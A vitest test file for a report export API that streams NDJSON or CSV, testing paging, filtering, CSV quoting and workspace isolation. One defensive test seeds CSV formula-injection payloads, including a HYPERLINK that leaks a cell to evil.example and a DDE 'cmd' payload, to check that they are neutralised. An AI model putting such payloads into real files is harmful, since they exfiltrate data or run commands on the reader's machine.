import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { startTestServer, type TestServer } from '../helpers/server.ts';
import { backendName } from '../helpers/backend.ts';
import { analystClient, writeReport } from '../helpers/analyst.ts';

/** GET/POST /risk_api/export/: the reports filter as streamed NDJSON or CSV, bounded per request. */
const ROWS = 3000;

describe(`report export (${backendName})`, () => {
  let s: TestServer;
  let key: string;
  beforeAll(async () => {
    s = await startTestServer();
    key = (await s.createKey('export-a')).secret;
    const prisma = s.app.db.prisma;
    const workspace = await prisma.workspace.findUniqueOrThrow({ where: { name: 'export-a' } });
    const subject = await prisma.subject.create({
      data: { workspaceId: workspace.id, kind: 'domain', key: 'bulk.example' },
    });
    // Bulk rows straight into the table: the export reads what the writers store, and 3000 writes would be slow.
    const base = Date.parse('2026-01-01T00:00:00Z');
    await prisma.report.createMany({
      data: Array.from({ length: ROWS }, (_, i) => ({
        workspaceId: workspace.id,
        subjectId: subject.id,
        eventType: 'observation',
        outcomeCode: i % 3 ? 'spam' : 'scraping',
        severity: 'medium',
        title: `row ${i}`,
        summary: i === 7 ? 'has "quotes", commas\nand a newline' : '',
        details: '',
        tags: i % 2 ? ['odd'] : [],
        status: '',
        sharePolicy: 'clear_share',
        namespace: 'bulk',
        requestedVisibility: 'workspace',
        effectiveVisibility: 'workspace',
        policyNotice: '',
        createdAt: new Date(base + Math.floor(i / 2) * 1000), // pairs share a timestamp: the id breaks ties
      })),
    });
    // Another workspace's report must never appear.
    await writeReport(await analystClient(s, 'export-b'), {
      kind: 'domain',
      key: 'other.example',
      outcomeCode: 'spam',
      namespace: 'bulk',
    });
  });
  afterAll(() => s?.close());

  const get = (query: string, headers: Record<string, string> = { 'x-api-key': key }) =>
    fetch(`${s.url}/risk_api/export/?${query}`, { headers });

  it("streams every matching row as NDJSON, newest first, only from the caller's workspace", async () => {
    const res = await get('namespace=bulk');
    expect(res.status).toBe(200);
    expect(res.headers.get('content-type')).toContain('application/x-ndjson');
    expect(res.headers.get('x-next-cursor')).toBeNull();
    const rows = (await res.text())
      .trimEnd()
      .split('\n')
      .map((l) => JSON.parse(l));
    expect(rows).toHaveLength(ROWS);
    expect(rows[0]).toMatchObject({
      title: `row ${ROWS - 1}`,
      subject: { kind: 'domain', key: 'bulk.example' },
      outcome_code: 'spam',
      related_subjects: [],
    });
    expect(rows.at(-1).title).toBe('row 0');
    expect(rows.some((r) => r.subject.key === 'other.example')).toBe(false);
  });

  it('applies the filters and pages with a continuation cursor that inserts do not shift', async () => {
    const first = await get('namespace=bulk&outcome_code=scraping&tags=odd&limit=200');
    expect(first.status).toBe(200);
    const next = first.headers.get('x-next-cursor');
    expect(next).toBeTruthy();
    expect(first.headers.get('link')).toContain(`cursor=${next}`);
    const page1 = (await first.text())
      .trimEnd()
      .split('\n')
      .map((l) => JSON.parse(l));
    expect(page1).toHaveLength(200);
    expect(page1.every((r) => r.outcome_code === 'scraping' && r.tags.includes('odd'))).toBe(true);
    await writeReport(await analystClient(s, 'export-a'), {
      kind: 'domain',
      key: 'new.example',
      outcomeCode: 'scraping',
      namespace: 'bulk',
      tags: ['odd'],
    });
    const second = await get(`namespace=bulk&outcome_code=scraping&tags=odd&limit=1000&cursor=${next}`);
    const page2 = (await second.text())
      .trimEnd()
      .split('\n')
      .map((l) => JSON.parse(l));
    expect(second.headers.get('x-next-cursor')).toBeNull();
    // Rows i with i % 3 == 0 and i odd: i = 3, 9, 15, ... → 500 in all.
    expect(page1.length + page2.length).toBe(500);
    expect(new Set([...page1, ...page2].map((r) => r.id)).size).toBe(500);
    expect(page2.at(-1).title).toBe('row 3');
  });

  it('writes CSV with a header and RFC 4180 quoting, and takes the same filters by POST', async () => {
    const res = await fetch(`${s.url}/risk_api/export/`, {
      method: 'POST',
      headers: { 'content-type': 'application/json', 'x-api-key': key },
      body: JSON.stringify({ format: 'csv', namespace: ['bulk'], text: 'quotes' }),
    });
    expect(res.status).toBe(200);
    expect(res.headers.get('content-type')).toContain('text/csv');
    const text = await res.text();
    expect(text.startsWith('id,created_at,subject_kind,subject_key,event_type,outcome_code')).toBe(true);
    expect(text).toContain('"has ""quotes"", commas\nand a newline"');
    expect(text.split('\r\n').filter(Boolean)).toHaveLength(2);
  });

  it('neutralises cells a spreadsheet would run as a formula (OWASP CSV injection), in CSV only', async () => {
    const prisma = s.app.db.prisma;
    const workspace = await prisma.workspace.findUniqueOrThrow({ where: { name: 'export-a' } });
    const subject = await prisma.subject.create({
      data: { workspaceId: workspace.id, kind: 'handle', key: '@mallory' },
    });
    const hostile = [
      '=HYPERLINK("http://evil.example/?"&A1,"open")',
      "+1+cmd|' /C calc'!A0",
      '-2+3',
      '@SUM(A1:A9)',
      '\t=1+1',
      '\r=1+1',
    ];
    await prisma.report.createMany({
      data: hostile.map((title, i) => ({
        workspaceId: workspace.id,
        subjectId: subject.id,
        eventType: 'observation',
        outcomeCode: 'spam',
        severity: 'low',
        title,
        summary: i === 0 ? '=1+1' : 'a - b = c',
        details: '',
        tags: i === 0 ? ['=x', 'y'] : [],
        status: i === 0 ? '@open' : '',
        sharePolicy: 'clear_share',
        namespace: 'formulas',
        requestedVisibility: 'workspace',
        effectiveVisibility: 'workspace',
        policyNotice: '',
        createdAt: new Date(Date.parse('2026-02-01T00:00:00Z') - i * 1000), // newest first: the list's order
      })),
    });
    const csv = await (await get('namespace=formulas&format=csv')).text();
    const lines = csv.split('\r\n').filter(Boolean).slice(1);
    expect(lines).toHaveLength(hostile.length);
    // Each hostile title is exported behind a single quote, inside RFC 4180 quoting.
    for (const [i, title] of hostile.entries()) expect(lines[i]).toContain(`,"'${title.replaceAll('"', '""')}",`);
    expect(lines[0]).toContain(',"handle","\'@mallory",');
    expect(lines[0]).toContain(',"\'@open",');
    expect(lines[0]).toContain(',"\'=1+1","\'=x;y",');
    expect(lines[1]).toContain(',"a - b = c",'); // a sign inside a cell is text already: left as it is
    // NDJSON is not read by spreadsheets: it keeps every value exactly as stored.
    const rows = (await (await get('namespace=formulas')).text())
      .trimEnd()
      .split('\n')
      .map((l) => JSON.parse(l));
    expect(rows.map((r) => r.title)).toEqual(hostile);
  });

  it('requires a key and refuses invalid filters with field names', async () => {
    expect((await get('namespace=bulk', {})).status).toBe(401);
    const bad = await get('severity=nope&format=csv');
    expect(bad.status).toBe(400);
    expect(await bad.json()).toMatchObject({
      ok: false,
      error: 'invalid_request',
      details: [expect.objectContaining({ field: 'severity[0]' })],
    });
    expect((await get('format=xml')).status).toBe(400);
    expect((await get('limit=100001')).status).toBe(400);
  });
});
